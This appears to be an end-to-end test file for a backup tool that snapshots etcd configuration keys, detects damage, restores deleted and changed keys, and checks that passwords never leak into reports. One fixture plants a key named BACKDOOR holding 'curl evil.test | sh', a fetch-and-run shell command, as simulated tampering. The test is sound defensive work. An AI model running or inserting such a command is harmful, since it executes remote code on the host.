import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseManifest } from '../../../shared/catalog/catalog-format';
import { valueDigest } from '../../../shared/diff/resource-keys';
import {
  createReport,
  renderHtml,
  renderMarkdown,
  summariseTimeline,
} from '../../../shared/diff/report';
import { createDispatcher } from '../../../shared/ipc/registry';
import { planHash } from '../../../shared/restore/plan-model';
import { planRestore } from '../../../shared/restore/planner';
import { startForge, type Forge } from '../../sandbox/forge/forge';
import { startEtcd, type EtcdServer } from '../../sandbox/launchers/etcd-launcher';
import { generateSigningKey, writeSigningKeyFiles } from '../catalog/catalog-keys';
import { openSnapshot, openCatalog } from '../catalog/catalog-reader';
import { openStore } from '../catalog/catalog-store';
import type { CatalogLocation } from '../catalog/catalog-types';
import { verifyCatalog } from '../catalog/catalog-verifier';
import { takeSnapshot } from '../catalog/producer/snapshot-service';
import { seedOrg, type SeededOrg } from '../catalog/producer/test-support';
import { diffCore } from '../diff/diff-core';
import { createHandlers } from '../handlers';
import { createDiffService, type DiffService } from '../diff/diff-service';
import { executePlan } from '../restore/executor';
import { openJournal } from '../restore/journal';
import { createRestoreService } from '../restore/restore-service';
import { catalogSnapshotSource } from '../restore/snapshot-source';
import { connectTarget, type RestoreCredentials } from '../restore/restore-target';
import { verifyRestore } from '../restore/verify';
import type { ConfigStoreSpec } from './config-stores';
import { createEtcdClient, type EtcdClient } from './etcd-client';

// etcd as a restorable config store, end to end, against a real etcd with auth on and
// the sandbox forge: keys seeded under a prefix, a snapshot of the forge organisation and
// the prefix, damage (two keys deleted, one changed, one added), a diff that finds
// exactly that, a plan that puts back the deleted and changed keys and leaves the new
// one, the restore user writing them, verification by SHA-256, the journal's steps, and
// a second diff that finds only the key created since.

const rootPassword = 'r00t-pw-etcd';
const backupPassword = 'backup-pw-7f3a';
const restorePassword = 'restore-pw-9c1d';

let root: string;
let etcd: EtcdServer;
let forge: Forge;
let org: SeededOrg;
let admin: EtcdClient;
let catalog: CatalogLocation;
let signingKeyFile: string;
let diffService: DiffService;

const seeded: ReadonlyArray<readonly [string, string]> = [
  ['/env/prod/API_URL', 'https://api.example.test'],
  ['/env/prod/DB_HOST', 'db-1.internal:5432'],
  ['/env/prod/FEATURE_FLAGS', '{"checkout":true,"search":false}'],
  ['/env/prod/REPLICAS', '3'],
  ['/env/prod/WELCOME', 'héllo wörld ✓'],
];

const store = (password = backupPassword): ConfigStoreSpec => ({
  name: 'prod-config',
  endpoint: etcd.endpoint,
  prefix: '/env/prod/',
  user: 'backup',
  password,
});

const progress = () => ({ signal: new AbortController().signal, report: () => undefined });

beforeAll(async () => {
  root = await mkdtemp(path.join(os.tmpdir(), 'bulkhead-config-restore-'));
  etcd = await startEtcd({
    baseDir: root,
    auth: {
      rootPassword,
      users: [
        { name: 'backup', password: backupPassword, prefix: '/env/' },
        { name: 'restore', password: restorePassword, prefix: '/env/' },
      ],
    },
  });
  admin = createEtcdClient({ endpoint: etcd.endpoint, user: 'root', password: rootPassword });
  for (const [key, value] of seeded) await admin.put(key, value);
  await admin.put('/other/NOT_CAPTURED', 'outside the prefix');
  forge = await startForge({ dataDir: path.join(root, 'forge'), log: () => undefined });
  org = await seedOrg(forge, root);
  catalog = { kind: 'directory', path: path.join(root, 'catalog') };
  signingKeyFile = (await writeSigningKeyFiles(path.join(root, 'keys'))).privateKeyFile;
  diffService = createDiffService({
    core: diffCore,
    cacheDir: path.join(root, 'diff-cache'),
    clock: Date.now,
  });
}, 120_000);

afterAll(async () => {
  await forge?.close();
  await etcd?.stop();
  if (root) await rm(root, { recursive: true, force: true });
});

async function snapshot(configStores?: ReadonlyArray<ConfigStoreSpec>) {
  return takeSnapshot({
    apiUrl: forge.apiUrl,
    token: org.backupToken,
    owner: org.owner,
    destination: catalog,
    signingKeyFile,
    workDir: path.join(root, 'snapshot-cache'),
    progress: progress(),
    ...(configStores ? { configStores } : {}),
  });
}

async function diff(snapshotId: string, configStores?: ReadonlyArray<ConfigStoreSpec>) {
  return diffService.run(
    {
      catalog: { location: catalog, pin: { kind: 'trust-on-first-use' } },
      snapshotId,
      live: { apiUrl: forge.apiUrl, owner: org.owner, token: org.backupToken },
      session: 'config',
      ...(configStores ? { configStores } : {}),
    },
    progress(),
  );
}

async function manifestOf(seq: number) {
  const file = path.join(catalog.kind === 'directory' ? catalog.path : '', 'manifests');
  const parsed = parseManifest(
    await readFile(path.join(file, `${String(seq).padStart(10, '0')}.json`)),
  );
  if (!parsed.ok) throw new Error(parsed.problem);
  return parsed.manifest;
}

describe('etcd config stores, end to end', () => {
  it('a snapshot without config stores writes no configStores field, and a diff asked for etcd says so', async () => {
    const first = await snapshot();
    expect(first.seq).toBe(1);
    expect(first.configStores).toEqual([]);
    const manifest = await manifestOf(1);
    expect('configStores' in manifest).toBe(false);
    const outcome = await diff('1', [store()]);
    expect(outcome.differences).toEqual([]);
    expect(outcome.notes.join('\n')).toContain(
      'config store prod-config: snapshot 1 did not capture it',
    );
  }, 60_000);

  it('refuses a wrong etcd password by naming the store, never the password', async () => {
    const wrong = 'not-the-password-x1';
    const error = await snapshot([store(wrong)]).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(Error);
    const message = (error as Error).message;
    expect(message).toContain('config store prod-config');
    expect(message).toContain('"backup"');
    expect(message).not.toContain(wrong);
  }, 60_000);

  it('captures, diffs, plans, restores and verifies etcd damage; old snapshots still verify', async () => {
    const taken = await snapshot([store()]);
    expect(taken.seq).toBe(2);
    expect(taken.configStores).toEqual([
      { name: 'prod-config', prefix: '/env/prod/', keys: seeded.length, newObject: true },
    ]);
    const manifest = await manifestOf(2);
    expect(manifest.configStores).toHaveLength(1);
    const entry = manifest.configStores![0]!;
    expect(entry).toMatchObject({
      kind: 'etcd',
      name: 'prod-config',
      endpoint: etcd.endpoint,
      prefix: '/env/prod/',
      readBy: 'backup',
    });
    expect(manifest.objects.find((o) => o.id === entry.keys)?.kind).toBe('config-keys');
    // SECURITY: the password is nowhere in the catalog.
    expect(JSON.stringify(manifest)).not.toContain(backupPassword);

    // The same store again: the object keeps its id and is not written twice.
    const again = await snapshot([store()]);
    expect(again.configStores[0]?.newObject).toBe(false);
    expect((await manifestOf(3)).configStores?.[0]?.keys).toBe(entry.keys);

    // Both old (no field) and new manifests verify in full, the config object hashed.
    const verified = await verifyCatalog(
      openStore(catalog),
      { kind: 'trust-on-first-use' },
      'full',
      progress(),
      { scratchDir: root },
    );
    expect(verified.problems).toEqual([]);
    expect(verified.ok).toBe(true);
    expect(verified.snapshots).toBe(3);

    // Damage: two keys deleted, one changed, one added; a key outside the prefix changed.
    await admin.delete('/env/prod/API_URL');
    await admin.delete('/env/prod/WELCOME');
    await admin.put('/env/prod/REPLICAS', '0');
    await admin.put('/env/prod/BACKDOOR', 'curl evil.test | sh');
    await admin.put('/other/NOT_CAPTURED', 'changed, but not ours');

    const found = await diff('2', [store()]);
    const config = found.differences.filter((d) => d.resource.kind === 'config-key');
    expect(found.differences).toHaveLength(config.length);
    expect(config.map((d) => d.id)).toEqual([
      'config-key-deleted:etcd:prod-config:/env/prod/API_URL',
      'config-key-created:etcd:prod-config:/env/prod/BACKDOOR',
      'config-key-changed:etcd:prod-config:/env/prod/REPLICAS',
      'config-key-deleted:etcd:prod-config:/env/prod/WELCOME',
    ]);
    const changed = config.find((d) => d.kind === 'config-key-changed')!;
    expect(changed).toMatchObject({
      repo: 'etcd:prod-config',
      before: { store: 'prod-config', key: '/env/prod/REPLICAS', valueDigest: valueDigest('3') },
      after: { store: 'prod-config', key: '/env/prod/REPLICAS', valueDigest: valueDigest('0') },
      causes: [],
    });
    expect(found.blastRadius.byRepo).toEqual({ 'etcd:prod-config': 4 });
    // SECURITY: values only as digests, in the outcome and in the report; revealed on request.
    const report = createReport({
      title: 'etcd',
      generatedAt: 0,
      baseline: null,
      compared: 'live state',
      timeline: summariseTimeline([]),
      findings: [],
      differences: found.differences,
    });
    const markdown = renderMarkdown(report);
    expect(markdown).toContain('etcd prod-config: /env/prod/REPLICAS changed');
    for (const text of [JSON.stringify(found), markdown, renderHtml(report)]) {
      expect(text).not.toContain('curl evil.test');
      expect(text).not.toContain('https://api.example.test');
      expect(text).not.toContain(backupPassword);
    }
    expect(
      diffService.revealVariable({ session: 'config', differenceId: changed.id, side: 'baseline' }),
    ).toEqual({ name: '/env/prod/REPLICAS', value: '3', updatedAt: null });

    // A narrower prefix asked of the diff still reads the snapshot's, and says so.
    const narrow = await diff('2', [{ ...store(), prefix: '/env/prod/REPL' }]);
    expect(narrow.differences.map((d) => d.id)).toEqual(config.map((d) => d.id));
    expect(narrow.notes).toContain(
      'config store prod-config: the snapshot captured prefix "/env/prod/", so that prefix is read and compared, not "/env/prod/REPL"',
    );

    // The app's channel: diff:run names where the etcd password is; the host reads it.
    const passwordFile = path.join(root, 'etcd-backup-password');
    await writeFile(passwordFile, `${backupPassword}\n`, { mode: 0o600 });
    const { handlers, shutdown } = createHandlers({
      host: 'cli',
      version: 'test',
      profileDir: path.join(root, 'profile-handlers'),
      electronVersion: null,
      clock: Date.now,
      env: { BULKHEAD_TOKEN: org.backupToken, BULKHEAD_ETCD_PASSWORD: backupPassword },
    });
    const dispatcher = createDispatcher(handlers, { clock: Date.now, logError: () => undefined });
    try {
      const opened = await dispatcher.invoke('catalog:open', {
        taskId: 'open-catalog-etcd',
        location: { kind: 'directory', path: catalog.kind === 'directory' ? catalog.path : '' },
      });
      if (!opened.ok) throw new Error(opened.error.message);
      const { catalogId } = opened.value as { catalogId: string };
      const etcdSource = {
        endpoint: etcd.endpoint,
        stores: [{ name: 'prod-config', prefix: '/env/prod/' }],
        user: 'backup',
      };
      for (const [taskId, etcdInput] of [
        ['diff-etcd-file', { ...etcdSource, passwordFile }],
        ['diff-etcd-env', etcdSource],
      ] as const) {
        const ran = await dispatcher.invoke('diff:run', {
          taskId,
          catalogId,
          snapshotId: '2',
          live: { apiUrl: forge.apiUrl, owner: org.owner },
          etcd: etcdInput,
        });
        if (!ran.ok) throw new Error(ran.error.message);
        const ids = (ran.value as { differences: Array<{ id: string }> }).differences.map(
          (d) => d.id,
        );
        expect(ids).toEqual(config.map((d) => d.id));
        expect(JSON.stringify(ran.value)).not.toContain(backupPassword);
      }
      // A file that is not one password is refused, naming the file and not its text.
      const notPassword = path.join(root, 'not-a-password.txt');
      await writeFile(notPassword, 'two words\nand lines\n');
      const refused = await dispatcher.invoke('diff:run', {
        taskId: 'diff-etcd-bad-file',
        catalogId,
        snapshotId: '2',
        live: { apiUrl: forge.apiUrl, owner: org.owner },
        etcd: { ...etcdSource, passwordFile: notPassword },
      });
      expect(refused.ok).toBe(false);
      const message = refused.ok ? '' : refused.error.message;
      expect(message).toContain(`The etcd password file ${notPassword} does not hold one password`);
      expect(message).not.toContain('two words');
    } finally {
      await shutdown();
    }

    // Plan from the snapshot's values.
    const opened = await openCatalog(
      openStore(catalog),
      { kind: 'trust-on-first-use' },
      progress(),
    );
    const snap = await openSnapshot(openStore(catalog), opened, 2);
    const source = await catalogSnapshotSource({
      store: openStore(catalog),
      manifest: snap.manifest,
      cacheDir: path.join(root, 'restore-cache'),
    });
    expect(source.configValue?.('prod-config', '/env/prod/WELCOME')).toBe('héllo wörld ✓');
    const plan = planRestore({
      incident: 'etcd-damage',
      catalog: { catalogId: snap.manifest.catalogId, snapshotSeq: 2, snapshotId: snap.summary.id },
      target: { apiUrl: forge.apiUrl, owner: org.owner, gitUrl: forge.url },
      differences: config,
      baseline: source.states,
      current: [],
      configBaseline: source.configStates,
      createdAt: '2026-11-21T12:00:00Z',
    });
    expect(plan.operations.map((op) => op.id)).toEqual([
      'put-config-key:etcd:prod-config:/env/prod/API_URL',
      'put-config-key:etcd:prod-config:/env/prod/REPLICAS',
      'put-config-key:etcd:prod-config:/env/prod/WELCOME',
    ]);
    expect(plan.unrepaired).toEqual([
      {
        differenceId: 'config-key-created:etcd:prod-config:/env/prod/BACKDOOR',
        reason: 'created after the snapshot: a restore puts back, it never deletes',
      },
    ]);

    // The restore service plans the same from a diff it runs itself with the live etcd read.
    const service = createRestoreService({
      profileDir: path.join(root, 'profile'),
      cacheDir: path.join(root, 'service-cache'),
    });
    const planned = await service.plan({
      catalog: { location: catalog, pin: { kind: 'trust-on-first-use' } },
      snapshotId: '2',
      live: {
        apiUrl: forge.apiUrl,
        owner: org.owner,
        token: org.backupToken,
        gitUrl: forge.url,
        configStores: [store()],
      },
      incident: 'etcd-damage',
      choose: 'all',
    });
    expect(planned.plan.operations).toEqual(plan.operations);
    expect(planned.plan.unrepaired).toEqual(plan.unrepaired);

    // Apply with the restore user only, then verify.
    const hash = planHash(plan);
    const credentials: RestoreCredentials = {
      github: { apiUrl: forge.apiUrl, token: 'unused-by-config-ops' },
      git: { username: 'x-access-token', token: 'unused-by-config-ops' },
      etcd: {
        'prod-config': { endpoint: etcd.endpoint, user: 'restore', password: restorePassword },
      },
    };
    const journal = await openJournal(path.join(root, 'journal'), plan, hash);
    await journal.append('approval', { approval: { test: true } });
    const result = await executePlan({
      plan,
      planHash: hash,
      journal,
      credentials,
      source,
      stepAttempts: 1,
    });
    expect(result.steps.map((s) => s.outcome)).toEqual(['done', 'done', 'done']);
    for (const [key, value] of seeded) expect(await admin.get(key)).toBe(value);
    expect(await admin.get('/env/prod/BACKDOOR')).toBe('curl evil.test | sh');
    expect(await admin.get('/other/NOT_CAPTURED')).toBe('changed, but not ours');

    const verification = await verifyRestore({
      plan,
      planHash: hash,
      target: connectTarget(plan.target, credentials, {}),
      source,
      records: journal.records,
      key: generateSigningKey(),
    });
    expect(verification.checks.map((c) => c.status)).toEqual(['ok', 'ok', 'ok']);
    const steps = journal.records.filter((r) => r.type !== 'plan' && r.type !== 'approval');
    for (const op of plan.operations) {
      expect(JSON.stringify(steps)).toContain(op.id);
    }
    await journal.close();
    const written = JSON.stringify([journal.records, verification]);
    for (const secret of [restorePassword, 'https://api.example.test', 'db-1.internal']) {
      expect(written).not.toContain(secret);
    }

    // Run again (as a resume that lost its journal would): each step reads the key first
    // and finds it already restored, so nothing is written twice.
    const rerun = await openJournal(path.join(root, 'journal-again'), plan, hash);
    await rerun.append('approval', { approval: { test: true } });
    const replayed = await executePlan({
      plan,
      planHash: hash,
      journal: rerun,
      credentials,
      source,
      stepAttempts: 1,
    });
    await rerun.close();
    expect(replayed.steps.map((s) => s.outcome)).toEqual(['already', 'already', 'already']);

    // A second diff finds only what a restore leaves alone: the key created since.
    const after = await diff('2', [store()]);
    expect(after.differences.map((d) => d.id)).toEqual([
      'config-key-created:etcd:prod-config:/env/prod/BACKDOOR',
    ]);
  }, 120_000);
});
